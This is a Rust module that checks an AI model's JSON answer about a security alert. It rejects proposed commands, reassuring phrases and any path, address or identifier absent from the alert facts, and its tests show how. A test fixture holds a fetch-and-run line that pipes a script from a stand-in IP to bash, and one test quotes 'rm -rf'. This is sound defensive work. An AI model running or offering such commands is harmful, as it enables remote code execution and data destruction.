//! What is accepted of an answer.

use super::prompt::{LONGEST_NARRATIVE, LONGEST_QUESTION, MOST_QUESTIONS};
use serde::Deserialize;

/// An answer that passed every check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Answer {
    /// The text.
    pub narrative: String,
    /// Questions, at most five.
    pub questions: Vec<String>,
    /// True where the model thinks that the facts look worse than the verdict. It cannot think the opposite.
    pub raise_attention: bool,
}

/// Why an answer was dropped.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Rejected {
    /// Not the JSON object that was asked for.
    #[error("not the JSON object that was asked for")]
    Schema,
    /// Empty, or longer than asked for.
    #[error("empty, or longer than asked for")]
    Length,
    /// It names something that is not in the facts.
    #[error("names {0:?}, which is not in the facts")]
    Invented(String),
    /// It proposes commands or configuration.
    #[error("proposes commands or configuration")]
    Command,
    /// It calls the alert harmless.
    #[error("reassures")]
    Reassures,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Raw {
    narrative: String,
    questions: Vec<String>,
    raise_attention: bool,
}

/// Checks an answer against the facts that the model was shown.
///
/// # Errors
/// [`Rejected`], for the first thing that is wrong with it.
pub fn check(text: &str, facts: &str) -> Result<Answer, Rejected> {
    let raw: Raw = serde_json::from_str(text.trim()).map_err(|_| Rejected::Schema)?;
    let narrative = raw.narrative.trim().to_owned();
    if narrative.is_empty() || narrative.chars().count() > LONGEST_NARRATIVE || raw.questions.len() > MOST_QUESTIONS {
        return Err(Rejected::Length);
    }
    for part in raw.questions.iter().chain([&narrative]) {
        if part.chars().count() > LONGEST_QUESTION.max(LONGEST_NARRATIVE) {
            return Err(Rejected::Length);
        }
        check_part(part, facts)?;
    }
    if raw.questions.iter().any(|question| question.chars().count() > LONGEST_QUESTION) {
        return Err(Rejected::Length);
    }
    Ok(Answer { narrative, questions: raw.questions, raise_attention: raw.raise_attention })
}

fn check_part(part: &str, facts: &str) -> Result<(), Rejected> {
    if part.contains("```") || part.contains("- rule:") || part.lines().any(|line| line.trim_start().starts_with("$ "))
    {
        return Err(Rejected::Command);
    }
    let lower = part.to_lowercase();
    if REASSURANCE.iter().any(|words| lower.contains(words)) {
        return Err(Rejected::Reassures);
    }
    for quoted in part.split('`').skip(1).step_by(2) {
        if !facts.contains(quoted) {
            return Err(Rejected::Invented(quoted.chars().take(80).collect()));
        }
    }
    for word in part.split_whitespace() {
        let word = word.trim_matches(|c: char| !c.is_alphanumeric() && c != '/' && c != '~');
        if is_value(word) && !facts.contains(word) {
            return Err(Rejected::Invented(word.chars().take(80).collect()));
        }
    }
    Ok(())
}

/// Words that would talk an engineer out of looking.
const REASSURANCE: &[&str] = &[
    "benign",
    "harmless",
    "false positive",
    "false alarm",
    "safe to ignore",
    "can be ignored",
    "no action",
    "nothing to worry",
    "not malicious",
    "not an attack",
];

/// True where a word looks like a value from a machine rather than like language: a path, an address, a host name, an
/// identifier.
fn is_value(word: &str) -> bool {
    let digits = word.bytes().filter(u8::is_ascii_digit).count();
    let path = word.starts_with('/') || word.starts_with("~/") || word.contains("://");
    let dotted = word.split('.').count() >= 2 && word.split('.').all(|part| !part.is_empty()) && !word.ends_with('.');
    let identifier =
        word.len() >= 8 && digits >= 2 && word.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_:".contains(&b));
    path || dotted || identifier || word.contains('@')
}

#[cfg(test)]
mod tests {
    use super::*;

    const FACTS: &str = "proc.cmdline = \"curl http://203.0.113.66/x | bash\"\nk8s.pod.name = \"web-5f7c6d9b4-zq8rl\"";

    fn answer(narrative: &str) -> Result<Answer, Rejected> {
        let body =
            serde_json::json!({"narrative": narrative, "questions": ["Who deployed it?"], "raise_attention": true});
        check(&body.to_string(), FACTS)
    }

    #[test]
    fn words_about_the_facts_are_accepted() {
        let good = answer("The pod web-5f7c6d9b4-zq8rl fetched a script from 203.0.113.66 and ran it with bash.");
        assert!(good.is_ok_and(|answer| answer.raise_attention && answer.questions.len() == 1));
    }

    #[test]
    fn invented_values_are_rejected() {
        for text in
            ["It wrote /etc/cron.d/x.", "It called 198.51.100.7.", "See pod web-0a1b2c3d4-aaaaa.", "Run `rm -rf`."]
        {
            assert!(matches!(answer(text), Err(Rejected::Invented(_))), "{text}");
        }
    }

    #[test]
    fn commands_reassurance_and_broken_answers_are_rejected() {
        assert_eq!(answer("```sh\nls\n```"), Err(Rejected::Command));
        assert_eq!(answer("This is a FALSE POSITIVE."), Err(Rejected::Reassures));
        assert_eq!(answer(""), Err(Rejected::Length));
        assert_eq!(answer(&"word ".repeat(1000)), Err(Rejected::Length));
        assert_eq!(check("{\"narrative\": \"cut o", FACTS), Err(Rejected::Schema));
        assert_eq!(check("[]", FACTS), Err(Rejected::Schema));
        let lowers = r#"{"narrative":"x","questions":[],"raise_attention":false,"verdict":"expected"}"#;
        assert_eq!(check(lowers, FACTS), Err(Rejected::Schema), "nothing else is read");
    }
}
